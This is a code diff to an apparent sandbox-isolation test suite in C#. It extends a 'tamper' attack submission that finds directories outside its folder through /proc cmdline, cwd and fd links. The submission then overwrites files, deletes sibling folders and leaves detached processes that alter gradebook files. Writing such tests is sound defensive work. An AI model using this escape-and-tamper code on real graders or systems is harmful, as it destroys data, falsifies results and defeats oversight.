@@ -214,8 +214,8 @@ internal static class AttackSubmissions
                     """,
             }),
 
-            // 4. rewrites everything it can find outside its folder (paths from /proc/*/cmdline, the working folder's
-            // parents): appends the marker to every file, drops PWNED files, deletes sibling folders, and leaves detached
+            // 4. rewrites everything it can find outside its folder (paths from /proc/*/cmdline, /proc/*/cwd and
+            // /proc/*/fd, the working folder's parents): appends the marker to every file, drops PWNED files, deletes sibling folders, and leaves detached
             // processes (setsid + nohup, and a plain background shell) that append to every gradebook.csv candidate 5 s later.
             ["tamper"] = Submit(released, new()
             {
@@ -226,7 +226,13 @@ internal static class AttackSubmissions
                     var own = Directory.GetCurrentDirectory();
                     var dirs = new List<string> { "..", "../..", "../../..", "../../../.." };
                     foreach (var p in Directory.GetDirectories("/proc"))
-                        try { foreach (var a in File.ReadAllText(p + "/cmdline").Split('\0').Where(a => a.StartsWith("/"))) for (var d = a; d is not null && d.Length > 1; d = Path.GetDirectoryName(d)) dirs.Add(d); } catch { }
+                    {
+                        var seen = new List<string>();
+                        try { seen.AddRange(File.ReadAllText(p + "/cmdline").Split('\0').Where(a => a.StartsWith("/"))); } catch { }
+                        try { seen.Add(new DirectoryInfo(p + "/cwd").LinkTarget ?? ""); } catch { }                   // working folders
+                        try { seen.AddRange(Directory.GetFiles(p + "/fd").Select(f => new FileInfo(f).LinkTarget ?? "")); } catch { } // open files
+                        foreach (var a in seen.Where(a => a.StartsWith("/"))) for (var d = a; d is not null && d.Length > 1; d = Path.GetDirectoryName(d)) dirs.Add(d);
+                    }
                     var targets = dirs.Select(Path.GetFullPath).Distinct().Where(d => d.StartsWith(Rail) && !d.StartsWith(own)).ToList();
                     foreach (var d in targets)
                     {
